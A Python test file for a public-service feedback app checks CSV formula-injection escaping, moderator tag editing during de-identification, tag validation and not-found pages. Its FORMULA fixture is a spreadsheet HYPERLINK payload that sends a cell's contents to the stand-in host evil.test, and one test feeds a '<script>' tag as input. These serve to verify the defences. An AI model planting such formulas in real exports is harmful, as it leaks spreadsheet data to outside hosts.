"""What the public reads of what people and staff typed, through the real app on SQLite and
PostgreSQL: a story that starts like a spreadsheet formula is flagged for the moderator and
is text in the CSV datasets (as written everywhere else); the tags a moderator edits in
de-identifying a story are the only ones any public route shows or filters by."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from .feedback_support import STAFF_STORIES, FeedbackNode, feedback_node, flags, public_paths

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


@pytest.fixture
def node(tmp_path: Path, migrated_database_url: str) -> Iterator[FeedbackNode]:
    with feedback_node(tmp_path, migrated_database_url) as running:
        yield running


def rows(node: FeedbackNode, table: str) -> list[dict[str, str]]:
    """A table of the stories dataset as its CSV reads."""
    text = node.browser().get(f"/datasets/stories/{table}.csv").text
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_story_that_starts_like_a_formula_is_flagged_and_is_text_in_the_csv(
    node: FeedbackNode,
) -> None:
    story = node.told(FORMULA, "-it was slow, then +1 day more")
    jo = node.staff("jo@pensions.example.org")

    assert flags(node.story_row(story)) == ["formula", "formula"]
    page = jo.get(f"{STAFF_STORIES}/{story}").text
    assert "Starts like a spreadsheet formula" in page
    assert node.publish(jo, story).status_code == 303  # the moderator publishes it as told
    answered = node.act(jo, story, "responses", {"response": "+ we sped it up", "change": "made"})
    assert answered.status_code == 303

    (row,) = rows(node, "stories")
    assert (row["title"], row["body"]) == ("'" + FORMULA, "'-it was slow, then +1 day more")
    (response,) = rows(node, "responses")
    assert response["body"] == "'+ we sped it up"
    anyone = node.browser()
    (published,) = anyone.get("/datasets/stories/stories.json").json()
    assert (published["title"], published["body"]) == (FORMULA, "-it was slow, then +1 day more")
    assert anyone.get(f"/api/v1/stories/{story}").json()["title"] == FORMULA


def test_the_dataset_pages_preview_shows_the_text_as_written_not_the_csvs_guard(
    node: FeedbackNode,
) -> None:
    """The dataset's page previews its first rows from the CSV: it showed the ' that only a
    spreadsheet needs, where every other page shows the text as written."""
    story = node.told("+1 for the new form", "-it was slow, then quicker")
    jo = node.staff("jo@pensions.example.org")
    assert node.publish(jo, story).status_code == 303

    page = node.browser().get("/datasets/stories").text

    assert "+1 for the new form" in page and "-it was slow, then quicker" in page
    assert "&#39;+1" not in page and "&#39;-it" not in page


# --- tags edited in de-identifying -----------------------------------------------------------


def test_a_moderator_edits_the_tags_and_only_the_edited_ones_are_ever_public(
    node: FeedbackNode,
) -> None:
    story = node.told("My visit", "The visit was cancelled twice.", tags="zebedee, cancelled")
    jo = node.staff("jo@pensions.example.org")
    assert 'value="zebedee, cancelled"' in jo.get(f"{STAFF_STORIES}/{story}").text

    done = node.publish(
        jo, story, title="My visit", body="The visit was cancelled twice.", tags="cancelled, visits"
    )

    assert done.status_code == 303 and done.headers["location"].endswith("?done=deidentified")
    row = node.story_row(story)
    assert row.deidentified and json.loads(row.tags) == ["zebedee", "cancelled"]  # as told, kept
    anyone = node.browser()
    for path in public_paths(story):
        shown = anyone.get(path)
        assert shown.status_code == 200, path
        assert "visits" in shown.text and "zebedee" not in shown.text, path
    assert anyone.get(f"/api/v1/stories/{story}").json()["tags"] == ["cancelled", "visits"]
    assert anyone.get("/api/v1/stories?tag=zebedee").json()["stories"] == []
    (found,) = anyone.get("/api/v1/stories?tag=visits").json()["stories"]
    assert found["id"] == story
    staff_page = jo.get(f"{STAFF_STORIES}/{story}").text
    assert "zebedee" in staff_page and "Tags: cancelled, visits" in staff_page


def test_edited_tags_are_published_each_once_in_the_order_typed(
    node: FeedbackNode,
) -> None:
    story = node.told(tags="speed, online")
    jo = node.staff("jo@pensions.example.org")

    done = node.publish(
        jo,
        story,
        title=node.story_row(story).title,
        body=node.story_row(story).body,
        tags="online, speed, online",
    )

    assert done.headers["location"].endswith("?done=deidentified")  # the order changed
    assert node.browser().get(f"/api/v1/stories/{story}").json()["tags"] == ["online", "speed"]


def test_tags_that_are_not_tags_are_refused_next_to_their_field(node: FeedbackNode) -> None:
    story = node.told(tags="speed")
    jo = node.staff("jo@pensions.example.org")

    refused = node.publish(jo, story, title="A visit", body="It went well.", tags="<script>")

    assert refused.status_code == 400 and 'href="#tags"' in refused.text
    assert "Enter up to 5 tags" in refused.text
    assert node.story_row(story).status == "held"


# --- pages that are not there ----------------------------------------------------------------


def test_a_story_that_is_not_there_has_the_not_found_page_with_what_to_do(
    node: FeedbackNode,
) -> None:
    jo = node.staff("jo@pensions.example.org")

    staff = jo.get(f"{STAFF_STORIES}/abcdefghjkmn")
    public = node.browser().get("/stories/abcdefghjkmn")

    assert staff.status_code == public.status_code == 404
    assert '<h1 class="govuk-heading-l">Page not found</h1>' in staff.text
    assert "There is no story with this address" in staff.text
    assert "<title>Page not found" in public.text
    assert "If you typed the web address, check it is correct." in public.text
